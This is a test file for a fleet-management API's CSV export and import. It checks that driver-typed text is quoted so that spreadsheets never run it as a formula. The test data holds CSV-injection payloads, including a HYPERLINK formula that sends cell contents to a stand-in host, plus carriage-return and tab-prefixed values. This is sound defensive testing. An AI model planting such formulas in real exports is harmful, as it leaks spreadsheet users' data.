"""What a driver types reaches the manager's spreadsheet as that text, never as a formula (OWASP
"CSV Injection"): every list's CSV read with Python's `csv`, then opened by a real spreadsheet
engine (LibreOffice Calc, headless) and saved as .xlsx; the plate and the driver's name beside
the ids; and what the exports write, the imports read back."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlalchemy import text

from tests.conftest import auth
from tests.photos.conftest import LATITUDE, sideways_jpeg, upload, upload_dir  # noqa: F401

API = "/api/v1"
TYPED = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "@SUM(1+1)", "+1+1", "-1+1", "=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, written here on its own
QUOTED_START = (*FORMULA_START, "'")  # and a quote, so that an import takes off only Frota's
LISTS = [
    "/vehicles",
    "/drivers",
    "/drivers/logins",
    "/users",
    "/trips",
    "/fuel-entries",
    "/service-records",
    "/reminders",
    "/documents",
    "/inspections",
    "/defects",
    "/fines",
    "/photos",
    "/due",
    "/audit",
    "/webhooks",
    "/webhooks/{webhook_id}/deliveries",
]
TEMPLATE = [
    {"key": "tyres", "label": "Pneus", "critical": True},
    {"key": "wipers", "label": "Limpadores"},
]


def as_exported(typed: str) -> str:
    """What the CSV holds for a text: a `'` before one that would start a formula or a quote."""
    return "'" + typed if typed.startswith(QUOTED_START) else typed


def csv_rows(response) -> tuple[list[str], list[list[str]]]:
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def all_json(client, url: str, headers) -> list[dict]:
    page = client.get(f"{API}{url}?limit=200", headers=headers).json()
    items = page["items"]
    while page["next"]:
        page = client.get(page["next"], headers=headers).json()
        items += page["items"]
    return items


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def ok(response, status: int = 201) -> dict:
    assert response.status_code == status, response.text
    return response.json()


def a_fleet(client, make, manager) -> dict:
    """For each typed text: a driver named so, a vehicle, a trip with it as purpose and note,
    fuel at a station named so, a defect, an inspection's note, a service, a reminder, a
    document, a fine; and a photo (its latitude is negative: a number, not text)."""
    h = auth(manager)
    template = ok(
        client.post(
            f"{API}/inspection-templates", json={"name": "Volta", "items": TEMPLATE}, headers=h
        )
    )
    now = datetime.now(UTC)
    drivers, vehicles = [], []
    for n, typed in enumerate(TYPED):
        driver = ok(
            client.post(
                f"{API}/drivers",
                json={
                    "name": typed,
                    "license_number": f"{n + 1:011d}",
                    "license_category": "B",
                    "license_expiry": (date.today() + timedelta(days=20 + n)).isoformat(),
                },
                headers=h,
            )
        )
        car = make.vehicle(odometer_km=1000)
        drivers.append(driver)
        vehicles.append(car)
        for days, km in ((3, 600), (2, 900)):
            ok(
                client.post(
                    f"{API}/fuel-entries",
                    json={
                        "vehicle_id": car.id,
                        "driver_id": driver["id"],
                        "filled_at": (now - timedelta(days=days)).isoformat(),
                        "odometer_km": km,
                        "liters": "30.5",
                        "price_per_liter": "5.89",
                        "fuel_type": "gasoline",
                        "station": typed,
                        "notes": typed,
                    },
                    headers=h,
                )
            )
        trip = ok(
            client.post(
                f"{API}/trips",
                json={
                    "vehicle_id": car.id,
                    "driver_id": driver["id"],
                    "start_odometer_km": 1000,
                    "purpose": typed,
                },
                headers=h,
            )
        )
        ok(
            client.post(
                f"{API}/trips/{trip['id']}/finish",
                json={"end_odometer_km": 1100, "notes": typed},
                headers=h,
            ),
            200,
        )
        ok(
            client.post(
                f"{API}/defects", json={"vehicle_id": car.id, "description": typed}, headers=h
            )
        )
        ok(
            client.post(
                f"{API}/inspections",
                json={
                    "vehicle_id": car.id,
                    "template_id": template["id"],
                    "phase": "check_in",
                    "odometer_km": 1100,
                    "driver_id": driver["id"],
                    "results": [
                        {"key": "tyres", "result": "pass"},
                        {"key": "wipers", "result": "fail", "note": typed},
                    ],
                },
                headers=h,
            )
        )
        ok(
            client.post(
                f"{API}/service-records",
                json={
                    "vehicle_id": car.id,
                    "odometer_km": 1100,
                    "kind": "corrective",
                    "description": typed,
                    "vendor": typed,
                    "items": [{"name": typed, "unit_cost": "10"}],
                },
                headers=h,
            )
        )
        ok(
            client.post(
                f"{API}/reminders",
                json={"vehicle_id": car.id, "title": typed, "every_km": 150, "notes": typed},
                headers=h,
            )
        )
        for owner, kind in (
            ({"driver_id": driver["id"]}, "toxicology"),
            ({"vehicle_id": car.id}, "insurance"),
        ):
            ok(
                client.post(
                    f"{API}/documents",
                    json={
                        **owner,
                        "kind": kind,
                        "number": typed,
                        "expires_on": (date.today() + timedelta(days=10 + n)).isoformat(),
                        "notes": typed,
                    },
                    headers=h,
                )
            )
        ok(
            client.post(
                f"{API}/fines",
                json={
                    "vehicle_id": car.id,
                    "occurred_at": trip["started_at"],
                    "place": typed,
                    "description": typed,
                    "amount": "130.16",
                    "notice_received_on": date.today().isoformat(),
                    "notes": typed,
                },
                headers=h,
            )
        )
    ok(upload(client, manager, sideways_jpeg(size=(800, 600)), vehicle_id=vehicles[0].id))
    make.user("manager", name=TYPED[0])
    login = make.user("driver", name=TYPED[1])
    ok(
        client.patch(f"{API}/drivers/{drivers[1]['id']}", json={"user_id": login.id}, headers=h),
        200,
    )
    return {"drivers": drivers, "vehicles": vehicles}


def check_list(client, url: str, h, plates: dict, names: dict) -> tuple[bytes, list[list[str]]]:
    """The list's CSV against its JSON: every text as exported (`as_exported`), every number,
    date, time and boolean as it is; the plate right after `vehicle_id`, the name right after
    `driver_id`; no text cell that begins with a formula character."""
    response = client.get(f"{API}{url}?format=csv", headers=h)
    header, rows = csv_rows(response)
    items = all_json(client, url, h)
    assert len(rows) == len(items) > 0, url
    for name, beside in (("vehicle_id", "vehicle_plate"), ("driver_id", "driver_name")):
        if name in header:
            assert header[header.index(name) + 1] == beside, (url, header)
    beside = [{"vehicle_id": "vehicle_plate", "driver_id": "driver_name"}.get(n) for n in header]
    for row, item in zip(rows, items, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert "vehicle_plate" not in item and "driver_name" not in item  # the JSON is unchanged
        # A photo's signed links expire: its CSV leaves them out (a webhook's `url` is data).
        links = {"url", "thumbnail_url"} if url.startswith("/photos") else set()
        assert set(header) == (set(item) - links) | set(filter(None, beside))
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert is_number(cell), (url, cell)  # a negative number; never text
        for name, value in item.items():
            if name not in cells:
                assert url == "/photos" and name in ("url", "thumbnail_url")
                continue
            cell = cells[name]
            if value is None:
                assert cell == "", (url, name)
            elif isinstance(value, bool):
                assert cell == str(value).lower(), (url, name)
            elif isinstance(value, int | float):
                assert float(cell) == pytest.approx(value), (url, name)
            elif isinstance(value, str):
                assert cell == as_exported(value), (url, name, cell, value)
            elif value == [] and cell == "[]":
                pass  # an empty JSON list (a delivery not tried yet); an empty array is ""
            elif isinstance(value, list) and all(isinstance(v, int) for v in value):
                assert cell == " ".join(map(str, value)), (url, name)
            elif isinstance(value, list) and all(isinstance(v, str) for v in value):
                assert cell == " ".join(value), (url, name, cell)  # a webhook's event types
            else:  # a JSON object or a list of them, as PostgreSQL writes its JSON
                assert cell.startswith(("{", "[")), (url, name, cell)
        if cells.get("vehicle_id"):
            assert cells["vehicle_plate"] == plates[int(cells["vehicle_id"])], url
        if cells.get("driver_id"):
            assert cells["driver_name"] == as_exported(names[int(cells["driver_id"])]), url
        elif "driver_id" in cells:
            assert cells["driver_name"] == "", url
    return response.content, [header, *rows]


def test_every_list_is_in_these_tests(app):
    """A new list (a GET that answers a page) has to be added to LISTS, and so to these tests."""
    paths = {
        path.removeprefix(API)
        for path, operations in app.openapi()["paths"].items()
        if "get" in operations
        and "/Page_" in str(operations["get"]["responses"].get("200", {}).get("content"))
    }
    assert paths == set(LISTS)


@pytest.mark.usefixtures("upload_dir")
def test_no_text_of_any_list_runs_as_a_formula_in_a_spreadsheet(
    client, make, manager, admin, spreadsheet
):
    h = auth(admin)
    # A webhook described by a typed text, with a delivery of each event the fleet makes.
    hook = ok(
        client.post(
            f"{API}/webhooks",
            json={
                "url": "https://93.184.215.14/",
                "events": ["defect.opened"],
                "description": TYPED[0],
            },
            headers=h,
        )
    )
    fleet = a_fleet(client, make, manager)
    from api.config import get_settings
    from api.db import get_sessionmaker
    from api.jobs import dispatch

    with get_sessionmaker()() as session:
        while dispatch(session, get_settings()):
            pass
    plates = {v["id"]: v["plate"] for v in all_json(client, "/vehicles", h)}
    names = {d["id"]: d["name"] for d in all_json(client, "/drivers", h)}
    exported = {
        url.strip("/").replace("/", "-").replace("{webhook_id}", "id"): check_list(
            client, url.replace("{webhook_id}", str(hook["id"])), h, plates, names
        )
        for url in LISTS
    }
    # What the issue names, by name: a driver's trip note and name, a defect's description, a
    # fuel station, each exactly as typed behind the `'`.
    everything = {name: rows for name, (_, rows) in exported.items()}

    def column(name: str, field: str) -> list[str]:
        header, *rows = everything[name]
        return [row[header.index(field)] for row in rows]

    quoted = sorted(as_exported(t) for t in TYPED)
    assert sorted(column("trips", "notes")) == quoted
    assert sorted(column("trips", "driver_name")) == quoted
    assert sorted(column("drivers", "name")) == quoted
    assert sorted(set(column("fuel-entries", "station"))) == quoted
    assert set(quoted) <= set(column("defects", "description"))
    assert column("webhooks", "description") == [as_exported(TYPED[0])]
    assert len(column("webhooks-id-deliveries", "type")) >= len(TYPED)
    assert sorted(column("trips", "vehicle_plate")) == sorted(v.plate for v in fleet["vehicles"])
    (latitude,) = column("photos", "latitude")
    assert latitude.startswith("-") and float(latitude) == pytest.approx(LATITUDE)

    # The same texts written as they were typed: the engine runs them (so this test can fail).
    raw = io.StringIO()
    csv.writer(raw).writerows([["typed"], *([t] for t in TYPED)])
    books = spreadsheet(
        {"raw": raw.getvalue().encode(), **{n: c for n, (c, _) in exported.items()}}
    )
    ran = [cell for (cell,) in books.pop("raw").iter_rows(min_row=2) if cell.data_type == "f"]
    assert len(ran) >= 2, "LibreOffice ran none of the raw formulas: the check below proves nothing"

    for name, sheet in books.items():
        rows = everything[name]
        assert sheet.max_row == len(rows), name
        for cells, row in zip(sheet.iter_rows(), rows, strict=True):
            for cell, exported_text in zip(cells, row, strict=False):
                where = (name, cell.coordinate, exported_text, cell.value)
                assert cell.data_type != "f", where  # no formula, whatever the text
                value = cell.value
                if value is None:
                    assert exported_text == "", where
                elif isinstance(value, str):
                    assert value == exported_text, where  # the text typed, behind its `'`
                elif isinstance(value, bool):
                    assert exported_text == str(value).lower(), where
                elif isinstance(value, int | float):
                    assert float(exported_text) == pytest.approx(value), where
                elif isinstance(value, datetime):  # a date cell (YYYY-MM-DD)
                    assert exported_text == value.date().isoformat(), where
                else:
                    pytest.fail(f"unexpected cell {where}")


def test_a_tab_a_carriage_return_or_a_quote_first_is_quoted_too(client, make, manager):
    """The API strips the whitespace around a text; what came in another way is quoted too. A
    text that begins with `'` gets one more (an import takes one off)."""
    driver, car = make.driver(), make.vehicle()
    make.session.execute(
        text(
            "INSERT INTO trips (vehicle_id, driver_id, start_odometer_km, purpose, notes) "
            "VALUES (:v, :d, 0, :purpose, :notes)"
        ),
        {"v": car.id, "d": driver.id, "purpose": "\tSUM(1)", "notes": "\rcmd"},
    )
    make.session.execute(
        text(
            "INSERT INTO trips (vehicle_id, driver_id, start_odometer_km, end_odometer_km, "
            "started_at, finished_at, notes) "
            "VALUES (:v, :d, 0, 0, now() - interval '1 day', now() - interval '1 day', :notes)"
        ),
        {"v": car.id, "d": driver.id, "notes": "'Joca'"},
    )
    make.session.execute(
        text("UPDATE drivers SET name = :name WHERE id = :id"),
        {"name": "-Zé", "id": driver.id},
    )
    make.session.commit()
    header, (row, earlier) = csv_rows(client.get(f"{API}/trips?format=csv", headers=auth(manager)))
    assert earlier[header.index("notes")] == "''Joca'"  # so that an import gives `'Joca'` back
    cells = dict(zip(header, row, strict=True))
    assert cells["purpose"] == "'\tSUM(1)" and cells["notes"] == "'\rcmd"
    assert cells["driver_name"] == "'-Zé"
    assert cells["start_odometer_km"] == "0" and cells["vehicle_plate"] == car.plate


def import_file(client, user, url: str, content: bytes):
    return client.post(
        f"{API}{url}/import",
        files={"file": ("export.csv", content, "text/csv")},
        headers=auth(user),
    )


def test_a_fuel_export_imports_back_as_the_same_entries(client, make, manager):
    """Exported, deleted, the same file imported as it is: the same entries, texts as typed
    (the `'` taken off), the plate and the name beside the ids read or left out."""
    h = auth(manager)
    driver = make.driver(name="=1+1")
    car, van = make.vehicle(odometer_km=2000), make.vehicle(odometer_km=2000)
    trip = ok(
        client.post(
            f"{API}/trips",
            json={"vehicle_id": car.id, "driver_id": driver.id, "start_odometer_km": 2000},
            headers=h,
        )
    )
    now = datetime.now(UTC)
    fill_ups = [
        (car, 10, 1000, {"liters": "40", "price_per_liter": "5.89"}),
        (car, 8, 1400, {"liters": "20.5", "total_price": "120.75", "full_tank": False}),
        (car, 6, 1800, {"liters": "15", "price_per_liter": "5.99", "trip_id": trip["id"]}),
        (car, 4, 1950, {"liters": "12.25", "price_per_liter": "6.1", "missed_previous": True}),
        (van, 9, 500, {"liters": "50", "price_per_liter": "5.5", "fuel_type": "diesel"}),
        (van, 3, 1100, {"liters": "45", "price_per_liter": "5.6", "fuel_type": "diesel"}),
    ]
    for n, (vehicle, days, km, fields) in enumerate(fill_ups):
        ok(
            client.post(
                f"{API}/fuel-entries",
                json={
                    "vehicle_id": vehicle.id,
                    "driver_id": driver.id,
                    "filled_at": (now - timedelta(days=days, microseconds=n)).isoformat(),
                    "odometer_km": km,
                    "fuel_type": "gasoline",
                    "station": TYPED[n % len(TYPED)],
                    "notes": [TYPED[n % 5], "'=1+1 typed with its quote", 'Posto "Boa"'][n % 3],
                    **fields,
                },
                headers=h,
            )
        )
    before = all_json(client, "/fuel-entries", h)
    assert sum(e["km_per_liter"] is not None for e in before) >= 2
    exported = client.get(f"{API}/fuel-entries?format=csv", headers=h)
    header, _ = csv_rows(exported)
    assert header[:5] == ["id", "vehicle_id", "vehicle_plate", "driver_id", "driver_name"]
    for entry in before:
        assert client.delete(f"{API}/fuel-entries/{entry['id']}", headers=h).status_code == 204
    assert all_json(client, "/fuel-entries", h) == []

    done = import_file(client, manager, "/fuel-entries", exported.content)
    assert done.status_code == 200, done.text
    assert done.json() == {"dry_run": False, "checked": 6, "created": 6}
    after = all_json(client, "/fuel-entries", h)
    assert [{**e, "id": None} for e in after] == [{**e, "id": None} for e in before]
    assert {e["station"] for e in after} == set(TYPED)


def test_a_fines_export_imports_back(client, make, manager):
    """The fines' CSV imported as it is: the same fines again, the driver named from the trips
    again; what Frota fills in itself (status, driver, deadline) is left out of the file."""
    h = auth(manager)
    driver = make.driver(name="@SUM(1+1)")
    car = make.vehicle(odometer_km=100)
    trip = ok(
        client.post(
            f"{API}/trips",
            json={"vehicle_id": car.id, "driver_id": driver.id, "start_odometer_km": 100},
            headers=h,
        )
    )
    for n, typed in enumerate(TYPED):
        ok(
            client.post(
                f"{API}/fines",
                json={
                    "vehicle_id": car.id,
                    "occurred_at": trip["started_at"],
                    "place": typed,
                    "infraction_code": f"-{n}",
                    "description": typed,
                    "amount": "195.23",
                    "points": 5,
                    "due_on": (date.today() + timedelta(days=40)).isoformat(),
                    "notice_received_on": date.today().isoformat(),
                    "notes": typed,
                },
                headers=h,
            )
        )
    before = all_json(client, "/fines", h)
    assert {f["driver_id"] for f in before} == {driver.id}
    exported = client.get(f"{API}/fines?format=csv", headers=h)
    done = import_file(client, manager, "/fines", exported.content)
    assert done.status_code == 200, done.text
    assert done.json()["created"] == len(TYPED)
    after = all_json(client, "/fines", h)
    new = [f for f in after if f["id"] > max(b["id"] for b in before)]
    assert sorted(({**f, "id": None} for f in new), key=str) == sorted(
        ({**f, "id": None} for f in before), key=str
    )


def test_a_plate_named_twice_is_422(client, make, manager):
    make.vehicle(plate="ABC1D23")
    content = (
        "plate,vehicle_plate,filled_at,odometer_km,fuel_type\n"
        "ABC1D23,ABC1D23,2026-11-01,10,diesel\n"
    )
    r = import_file(client, manager, "/fuel-entries", content.encode())
    assert r.status_code == 422
    assert "columns more than once plate" in r.json()["detail"][0]["detail"]


@pytest.mark.parametrize(
    ("cell", "typed"),
    [
        ("'=1+1", "=1+1"),
        ("'-1+1", "-1+1"),
        ("'@SUM(1+1)", "@SUM(1+1)"),
        ("''=1", "'=1"),  # one quote only: the text was `'=1`
        ("''Joca'", "'Joca'"),
        ("'Joca'", "'Joca'"),  # a quote before anything else is the text's own
        ("'", "'"),
        ("-12.5", "-12.5"),
    ],
)
def test_an_import_takes_off_the_quote_an_export_put(cell, typed):
    from api.csv_import import unquote

    assert unquote(cell) == typed
